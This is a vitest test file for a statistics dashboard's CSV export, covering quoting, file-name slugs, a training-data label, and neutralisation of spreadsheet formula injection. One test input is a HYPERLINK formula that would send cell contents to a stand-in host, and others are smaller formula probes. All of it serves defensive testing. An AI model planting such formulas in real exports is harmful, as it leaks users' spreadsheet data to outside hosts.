import { describe, expect, it } from 'vitest';
import { restoreNeutralisedCell, neutraliseCell as serverNeutraliseCell } from '../../../server/src/exports/csv-injection';
import { fileSlug, neutraliseCell, setExportLabel, toCsv } from './csv';

describe('toCsv', () => {
  it('starts with a BOM and a header row, quotes where needed, leaves missing values empty', () => {
    const text = toCsv(
      ['Wilayah', 'Nilai'],
      [
        ['Kota Gorontalo', 5.31],
        ['Kabupaten "Boalemo", Gorontalo', null],
      ],
    );
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text.slice(1).split('\r\n')).toEqual([
      'Wilayah,Nilai',
      'Kota Gorontalo,5.31',
      '"Kabupaten ""Boalemo"", Gorontalo",',
      '',
    ]);
  });
  it('makes file names from titles', () => {
    expect(fileSlug('Persentase Penduduk Miskin (P0) menurut provinsi, Maret 2025')).toBe(
      'persentase-penduduk-miskin-p0-menurut-provinsi-maret-2025',
    );
  });
});

describe('toCsv and CSV injection', () => {
  it('neutralises text a spreadsheet would run (=, +, -, @, tab, line break first): a leading quote, in a quoted cell', () => {
    const text = toCsv(
      ['sumber', 'nilai', 'catatan', 'a', 'b', 'c', 'd'],
      [['=HYPERLINK("http://x.example/?"&A1,"klik")', -1.5, '-tidak ada', '@SUM(A1)', '+62 812', '\tx', "'=1+1"]],
    );
    expect(text.slice(1).split('\r\n')[1]).toBe(
      `"'=HYPERLINK(""http://x.example/?""&A1,""klik"")",-1.5,"'-tidak ada","'@SUM(A1)","'+62 812","'\tx","''=1+1"`,
    );
  });
  it('leaves numbers, numbers written as text, and other text as they are', () => {
    const text = toCsv(['a'], [[-1.5], ['-1,5'], ['-0.25'], ['Badan Pusat Statistik'], ["it's"], ['x=1']]);
    expect(text.slice(1).split('\r\n').slice(1, -1)).toEqual(['-1.5', '"-1,5"', '-0.25', 'Badan Pusat Statistik', "it's", 'x=1']);
  });
  it('is the rule every download of the dashboard goes through', () => {
    expect(neutraliseCell('=1+1')).toBe("'=1+1");
    expect(neutraliseCell('-')).toBe("'-");
    expect(neutraliseCell('-3')).toBe('-3');
  });
});

describe('the dashboard and the server', () => {
  it('neutralise text alike, so a download from either reads back the same through the import', () => {
    const texts = [
      '=1+1',
      '+62 812',
      '-tidak ada',
      '-',
      '@x',
      '\tx',
      '\rx',
      '\nx',
      "'=x",
      "''-x",
      "'x",
      'x',
      '',
      '-1,5',
      '+3',
      '.5',
      'x=1',
    ];
    for (const text of texts) expect(neutraliseCell(text)).toBe(serverNeutraliseCell(text));
    for (const text of texts) expect(restoreNeutralisedCell(neutraliseCell(text))).toBe(text);
  });
});

describe('toCsv on training data', () => {
  it('puts the label on a line above the header while one is set, and nothing once it is cleared', () => {
    setExportLabel('DATA LATIHAN — bukan data resmi / TRAINING DATA — not official data');
    try {
      expect(toCsv(['wilayah', 'nilai'], [['Gorontalo', 15.4]])).toBe(
        '\uFEFFDATA LATIHAN — bukan data resmi / TRAINING DATA — not official data\r\nwilayah,nilai\r\nGorontalo,15.4\r\n',
      );
    } finally {
      setExportLabel(null);
    }
    expect(toCsv(['wilayah'], [['Gorontalo']])).toBe('\uFEFFwilayah\r\nGorontalo\r\n');
  });
});
